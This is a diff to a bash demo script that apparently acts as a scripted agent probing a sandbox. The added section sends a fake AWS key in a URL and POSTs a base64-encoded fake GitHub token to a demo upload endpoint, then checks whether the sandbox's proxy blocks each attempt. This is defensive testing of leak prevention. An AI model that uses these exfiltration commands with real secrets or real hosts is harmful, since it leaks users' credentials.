@@ -2,12 +2,14 @@
 # The demo's scripted "agent".  demo/run.sh copies it into a throw-away
 # project, so inside the bottle it is /workspace/agent.sh, and runs it with
 #
-#   bash /workspace/agent.sh COLOR HOST_PORT HOST_HOME REAL_HOME
+#   bash /workspace/agent.sh COLOR HOST_PORT HOST_HOME REAL_HOME API_PORT
 #
 # COLOR      1 to use colours (the bottle does not pass NO_COLOR through)
 # HOST_PORT  a TCP port run.sh listens on, on the host's 127.0.0.1
 # HOST_HOME  the demo user's home on the host (holds a fake ~/.aws/credentials)
 # REAL_HOME  the home of whoever ran the demo
+# API_PORT   the demo API's port: https://api.demo.test:API_PORT, reached
+#            only through the bundle's proxy
 #
 # It tries one thing per line and says whether the bottle allowed it.  The
 # exit status is the number of surprises: something that should have been
@@ -19,6 +21,7 @@ COLOR=${1:-0}
 HOST_PORT=${2:-1}
 HOST_HOME=${3:-/nonexistent}
 REAL_HOME=${4:-/nonexistent}
+API_PORT=${5:-1}
 
 exec 2>&1
 export LC_ALL=C
@@ -237,7 +240,7 @@ if out=$(timeout 5 getent hosts example.com 2>&1); then
 else
 	blocked "DNS lookup of example.com" \
 		"no answer; $(grep -c '^nameserver' /etc/resolv.conf) nameservers"
-	# With no name service there is nothing curl could send anywhere.
+	# No name service, and the proxy refuses hosts off the allowlist.
 	if command -v curl >/dev/null 2>&1; then
 		expect_blocked "curl https://example.com" \
 			curl -sS -m 3 -o /dev/null https://example.com
@@ -257,6 +260,30 @@ if [ "$found" = 0 ]; then
 		"not in any environment here ($scanned readable)"
 else
 	leak "see \$AWS_SECRET_ACCESS_KEY" "found in $found environment(s)"
+fi
+echo
+
+echo "${B}the way out: the bundle's proxy at ${HTTPS_PROXY:-?}${N}"
+api=https://api.demo.test:$API_PORT
+if out=$(curl -sS -m 10 -H "Authorization: Bearer $DEMO_API_TOKEN" "$api/hello" 2>&1) &&
+	[ "${out#*real token}" != "$out" ]; then
+	allowed "call the API with \$DEMO_API_TOKEN" "\$DEMO_API_TOKEN=$DEMO_API_TOKEN; $out"
+else
+	broken "call the API with \$DEMO_API_TOKEN" "$out"
+fi
+key=AKIA$(printf 'DEMO%.0s' 1 2 3 4)
+out=$(curl -s -m 10 "$api/upload?aws_key=$key" 2>&1)
+if [ "${out#*blocked}" != "$out" ]; then
+	blocked "send an AWS key in a URL" "${out#bottle: }"
+else
+	leak "send an AWS key in a URL" "$out"
+fi
+b64=$(printf 'ghp_%s' "$(printf 'x%.0s' $(seq 36))" | base64 -w0)
+out=$(curl -s -m 10 --data "blob=$b64" "$api/upload" 2>&1)
+if [ "${out#*blocked}" != "$out" ]; then
+	blocked "POST a base64-encoded GitHub token" "${out#bottle: }"
+else
+	leak "POST a base64-encoded GitHub token" "$out"
 fi
 echo
 
